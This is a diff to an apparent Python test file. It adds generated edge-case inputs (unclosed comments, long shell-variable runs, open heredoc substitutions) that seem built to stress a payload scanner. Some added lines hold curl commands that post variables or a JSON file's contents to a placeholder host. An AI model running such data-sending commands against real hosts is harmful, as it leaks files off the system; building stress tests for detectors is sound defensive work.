@@ -104,6 +104,17 @@ SHAPES: dict[str, tuple[Callable[[str], object], int, Callable[[int], str]]] = {
     "comments of a program that stay open": (payload, 3_000, lambda n: FETCH + "\n" + "/* " * (n // 3)),
     "comments of Deluge that stay open": (payload, 3_000, lambda n: "a = Map();\n" + "/* " * (n // 3) + DELUGE),
     "comments behind a body that stay open": (payload, 3_000, lambda n: "{a: 1} " + "/* " * (n // 3)),
+    "variables of a shell, each another one": (
+        payload,
+        12_000,
+        lambda n: f'curl https://a.test -d "{" ".join(f"$a{each}" for each in range(n // 6))}"',
+    ),
+    "variables in a document that stay open": (
+        payload,
+        6_000,
+        lambda n: "cat > a.json <<EOF\n" + "`${" * (n // 3) + "\nEOF\ncurl https://a.test -d @a.json",
+    ),
+    "quotes behind a template that stay open": (payload, 12_000, lambda n: '{{ {"a": "' + '\\"' * (n // 2)),
     "block comments and no more": (payload, 500, lambda n: "/* curl */" * (n // 10)),
     "lines before the status of a reply": (saved_replies, 6_000, lambda n: "x" + "\n" * n + "x"),
     "spaces before a call": (payload, 5_000, lambda n: " " * n + "curl"),
